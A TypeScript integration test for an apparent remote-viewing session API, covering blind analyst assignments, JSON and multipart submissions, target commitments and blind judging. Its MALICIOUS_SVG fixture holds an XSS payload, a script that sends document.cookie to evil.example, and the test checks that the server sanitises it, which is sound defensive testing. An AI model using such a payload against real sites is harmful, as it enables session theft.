import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toPublicId } from '#common';
import { Sql } from '#database';
import type { RegisteredClient } from './support/authorization.js';
import { TestClient } from './support/client.js';
import { createOrganization, type TestOrganization } from './support/factories.js';
import { addMember, memberClient, memberToken, type TestMember } from './support/people.js';
import { startStack, type Stack } from './support/stack.js';
import { waitFor } from './support/wait.js';

/**
 * Sessions done by people (issue 18): tasked blind to two analysts signed in
 * with their own tokens, submitted as JSON and as multipart with real image
 * and SVG uploads, completed from their submissions with the target revealed
 * and its commitment checkable, then judged blind by a third person.
 */

const TARGET = 'The Eiffel Tower, Champ de Mars, Paris';
const PNG = readFileSync(new URL('./fixtures/reference-material/plain.png', import.meta.url));
const MALICIOUS_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <a xlink:href="javascript:alert(2)"><rect width="40" height="40" fill="red"/></a>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <circle cx="20" cy="20" r="10" fill="blue"/>
</svg>`;

let stack: Stack;
let client: TestClient;
let sql: Sql;

beforeAll(async () => {
  stack = await startStack();
  client = await TestClient.for(stack);
  sql = stack.api.get(Sql);
});

afterAll(async () => {
  await stack?.close();
});

interface Team {
  org: TestOrganization;
  admin: string;
  codeClient: RegisteredClient;
  analysts: (TestMember & { token: string })[];
  judge: TestMember & { token: string };
}

async function team(analystCount = 2): Promise<Team> {
  const org = await createOrganization(stack, client);
  const codeClient = await memberClient(client, org);
  const analysts = [];
  for (let i = 0; i < analystCount; i += 1) {
    const member = await addMember(stack, org, ['analyst'], `Analyst ${i}`);
    analysts.push({ ...member, token: await memberToken(stack, codeClient, member) });
  }
  const judgeMember = await addMember(stack, org, ['judge'], 'Judge');
  const judge = { ...judgeMember, token: await memberToken(stack, codeClient, judgeMember) };
  return { org, admin: await org.token(), codeClient, analysts, judge };
}

async function poolTarget(token: string, description: string, descriptors: string[]) {
  const response = await client.post('/v2/targets', {
    token,
    json: { description, descriptors, coordinates: { latitude: 10, longitude: 20 } },
  });
  expect(response.status).toBe(201);
  return response.body.target_id as string;
}

/** A multipart body as a browser's FormData would send it. */
async function multipart(form: FormData): Promise<{ body: Buffer; contentType: string }> {
  const request = new Request('http://multipart.invalid/', { method: 'POST', body: form });
  return {
    body: Buffer.from(await request.arrayBuffer()),
    contentType: request.headers.get('content-type')!,
  };
}

async function sessionOf(token: string, id: string) {
  const response = await client.get(`/v2/sessions/${id}`, { token });
  expect(response.status).toBe(200);
  return response.body;
}

async function events(token: string, type: string) {
  const response = await client.get(`/v2/events?type=${type}&per_page=100`, { token });
  expect(response.status).toBe(200);
  return response.body.data as { type: string; data: Record<string, unknown> }[];
}

describe('a session done by two analysts and judged blind', () => {
  it('tasks blind, takes JSON and multipart submissions, completes, reveals, and is judged', async () => {
    const { admin, analysts, judge } = await team();
    const [first, second] = analysts as [Team['analysts'][0], Team['analysts'][0]];
    const truthId = await poolTarget(admin, 'A tall iron lattice tower by a river', [
      'tall',
      'metal',
      'water',
      'vertical',
    ]);
    for (const [i, words] of [['land'], ['round'], ['water', 'natural'], ['building']].entries()) {
      await poolTarget(admin, `Decoy ${i}`, words);
    }

    const created = await client.post('/v2/sessions/create', {
      token: admin,
      json: {
        type: 'remote_viewing',
        target: TARGET,
        modality: 'visual',
        engine: 'analyst',
        analyst_count: 2,
        judging: true,
        decoy_count: 4,
        target_id: truthId,
      },
    });
    expect(created.status).toBe(201);
    const sessionId = created.body.session_id as string;
    expect(created.body).toMatchObject({ status: 'in_progress', progress: 0 });
    expect(created.body.metadata).toMatchObject({ engine: 'analyst', engine_version: 'analyst-1' });

    // What each analyst can read: their own assignment, blind.
    const seenByAnalysts: string[] = [];
    const assignmentOf = async (analyst: Team['analysts'][0]) => {
      const list = await client.get('/v2/assignments', { token: analyst.token });
      expect(list.status).toBe(200);
      seenByAnalysts.push(list.text);
      expect(list.body.data).toHaveLength(1);
      return list.body.data[0];
    };
    const assignment = await assignmentOf(first);
    expect(assignment).toMatchObject({
      work_id: sessionId,
      kind: 'session',
      question_type: 'remote_viewing',
      modality: 'visual',
      duration_minutes: 30,
      status: 'assigned',
      submission: null,
      target: null,
      target_nonce: null,
    });
    expect(assignment.target_reference_number).toMatch(/^\d{4}-\d{4}$/);
    expect(assignment.target_commitment).toMatch(/^[0-9a-f]{64}$/);
    expect(assignment.target_reference_number).not.toContain(sessionId.slice(5, 13));
    const secondAssignment = await assignmentOf(second);
    expect(secondAssignment.target_commitment).toBe(assignment.target_commitment);

    // The work itself, its list and its events are not theirs to read.
    for (const path of [`/v2/sessions/${sessionId}`, '/v2/sessions', '/v2/events', '/v2/targets']) {
      const refused = await client.get(path, { token: first.token });
      expect(refused.status).toBe(403);
      seenByAnalysts.push(refused.text);
    }
    const one = await client.get(`/v2/assignments/${assignment.assignment_id}`, {
      token: first.token,
    });
    seenByAnalysts.push(one.text);
    expect(one.body).toEqual(assignment);
    const others = await client.get(`/v2/assignments/${assignment.assignment_id}`, {
      token: second.token,
    });
    expect(others.status).toBe(404);

    // The first analyst submits JSON, then amends it.
    const submitted = await client.post(`/v2/sessions/${sessionId}/results`, {
      token: first.token,
      json: {
        descriptors: ['Water', 'tall', 'metal', 'lattice'],
        coordinates: { latitude: 48.8584, longitude: 2.2945 },
        notes: 'Cold wind, a sense of height.',
        confidence: 0.7,
      },
    });
    expect(submitted.status).toBe(200);
    seenByAnalysts.push(submitted.text);
    expect(submitted.body).toMatchObject({ status: 'submitted', target: null });
    expect(submitted.body.submission.descriptors).toEqual(['water', 'tall', 'metal', 'lattice']);
    expect((await sessionOf(admin, sessionId)).progress).toBe(50);
    const amended = await client.post(`/v2/sessions/${sessionId}/results`, {
      token: first.token,
      json: {
        descriptors: ['water', 'tall', 'metal', 'vertical'],
        coordinates: { latitude: 48.86, longitude: 2.29 },
      },
    });
    expect(amended.status).toBe(200);
    seenByAnalysts.push(amended.text);

    // The second submits multipart with a PNG and a malicious SVG.
    const form = new FormData();
    form.append('descriptors', 'water,tall');
    form.append('descriptors', 'bridge');
    form.append('latitude', '48.85');
    form.append('longitude', '2.30');
    form.append('notes', 'Iron beams');
    form.append('sketches', new Blob([PNG], { type: 'application/octet-stream' }), 'a.png');
    form.append('sketches', new Blob([MALICIOUS_SVG], { type: 'image/svg+xml' }), 'b.svg');
    const upload = await multipart(form);
    const withSketches = await client.post(`/v2/sessions/${sessionId}/results`, {
      token: second.token,
      raw: { body: upload.body, contentType: upload.contentType },
    });
    expect(withSketches.status).toBe(200);
    // The last submission completes the work, so its answer already reveals the target.
    expect(withSketches.body).toMatchObject({ status: 'completed', target: TARGET });
    const sketches = withSketches.body.submission.sketches as {
      url: string;
      content_type: string;
    }[];
    expect(sketches.map((s) => s.content_type)).toEqual(['image/png', 'image/svg+xml']);
    const svg = await fetch(sketches[1]!.url, {
      headers: { authorization: `Bearer ${second.token}` },
    });
    expect(svg.status).toBe(200);
    expect(svg.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const cleaned = await svg.text();
    expect(cleaned).toContain('<circle');
    expect(cleaned).not.toMatch(/script|onload|javascript:|evil\.example/i);
    const png = await fetch(sketches[0]!.url, {
      headers: { authorization: `Bearer ${second.token}` },
    });
    expect(Buffer.from(await png.arrayBuffer()).equals(PNG)).toBe(true);

    // Everyone has submitted: the session completed from the two submissions.
    const session = await sessionOf(admin, sessionId);
    expect(session).toMatchObject({ status: 'completed', progress: 100 });
    const results = session.results;
    expect(results.descriptors.slice(0, 2).sort()).toEqual(['tall', 'water']);
    expect(
      results.collaborative_insights.map((i: { analyst_id: string }) => i.analyst_id).sort(),
    ).toEqual([first.analystId, second.analystId].sort());
    expect(
      results.collaborative_insights.map(
        (i: { contribution_weight: number }) => i.contribution_weight,
      ),
    ).toEqual([0.5, 0.5]);
    expect(results.coordinates.latitude).toBeGreaterThan(48.84);
    expect(results.coordinates.latitude).toBeLessThan(48.87);
    expect(results.statistical_validation).toEqual({
      p_value: 1,
      confidence_interval: [0, 1],
      sample_size: 0,
    });
    expect(session.metadata.evidence).toBe('prior');
    expect(results.sketches).toHaveLength(2);
    const served = await fetch(results.sketches[0].url, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(served.headers.get('content-type')).toBe('image/png');

    // The target revealed to the analysts, and the commitment opens with it.
    const revealed = (
      await client.get(`/v2/assignments/${assignment.assignment_id}`, { token: first.token })
    ).body;
    expect(revealed).toMatchObject({ status: 'completed', target: TARGET });
    expect(
      createHash('sha256').update(`${revealed.target_nonce}:${TARGET}`, 'utf8').digest('hex'),
    ).toBe(revealed.target_commitment);
    const late = await client.post(`/v2/sessions/${sessionId}/results`, {
      token: first.token,
      json: { descriptors: ['late'] },
    });
    expect(late.status).toBe(409);
    expect(late.body.error.details.field).toBe('deadline');

    // Nothing an analyst received before the reveal named the target.
    for (const text of seenByAnalysts) {
      expect(text).not.toContain('Eiffel');
      expect(text).not.toContain('iron lattice');
      expect(text).not.toContain(truthId);
    }
    // The assignment events carry the reference number and commitment, never the target.
    const assignmentEvents = [
      ...(await events(admin, 'assignment.created')),
      ...(await events(admin, 'assignment.submitted')),
    ];
    expect(assignmentEvents.map((e) => e.type).sort()).toEqual([
      'assignment.created',
      'assignment.created',
      'assignment.submitted',
      'assignment.submitted',
      'assignment.submitted',
    ]);
    expect(
      assignmentEvents.filter((e) => e.type === 'assignment.submitted').map((e) => e.data.amended),
    ).toEqual(expect.arrayContaining([false, true, false]));
    expect(JSON.stringify(assignmentEvents)).not.toContain('Eiffel');
    const progressEvents = await events(admin, 'session.progress_updated');
    // One announcement per change (the amendment moved nothing), the last with the completion.
    expect(progressEvents.map((e) => e.data.progress as number).sort((a, b) => a - b)).toEqual([
      50, 100,
    ]);

    // Judged blind by the third person; ranking the truth first is a hit for both analysts.
    const judging = await waitFor(async () => {
      const list = await client.get('/v2/judging-tasks', { token: judge.token });
      return list.body.data?.[0];
    });
    const [{ true_candidate_id: truth }] = await sql.rows<{ true_candidate_id: string }>(
      `SELECT true_candidate_id FROM judging_tasks WHERE judge_user_id = $1`,
      [judge.userId],
    );
    const task = (
      await client.get(`/v2/judging-tasks/${judging.judging_task_id}`, { token: judge.token })
    ).body;
    expect(JSON.stringify(task)).not.toContain('Eiffel');
    expect(task.submissions).toHaveLength(2);
    const candidates = (task.candidates as { candidate_id: string }[]).map((c) => c.candidate_id);
    expect(candidates).toHaveLength(5);
    const trueCandidate = toPublicId('candidate', truth);
    const ranking = [trueCandidate, ...candidates.filter((id) => id !== trueCandidate)];
    const ranked = await client.post(`/v2/judging-tasks/${judging.judging_task_id}/ranking`, {
      token: judge.token,
      json: { ranking },
    });
    expect(ranked.status).toBe(200);

    // Each analyst's track record: one judged trial, a hit at chance 1/5.
    const record = (await client.get(`/v2/analysts/${first.analystId}`, { token: admin })).body
      .track_record;
    expect(record).toMatchObject({ trials: 1, hits: 1 });
    expect(record.hit_rate).toMatchObject({
      value: 1,
      successes: 1,
      n: 1,
      baseline: 0.2,
      p_value: 0.2,
    });
    // SAIC against the pool target's descriptors {tall, metal, water, vertical}: the amended
    // submission {water, tall, metal, vertical} describes all of it and only it.
    expect(record.saic_accuracy).toBe(1);
    expect(record.saic_reliability).toBe(1);
    expect(record.by_modality).toEqual([
      expect.objectContaining({ kind: 'session', modality: 'visual', trials: 1, hits: 1 }),
    ]);
    expect(record.evidence).toBe('prior');
    expect(record.summary).toContain('too few');
  });
});
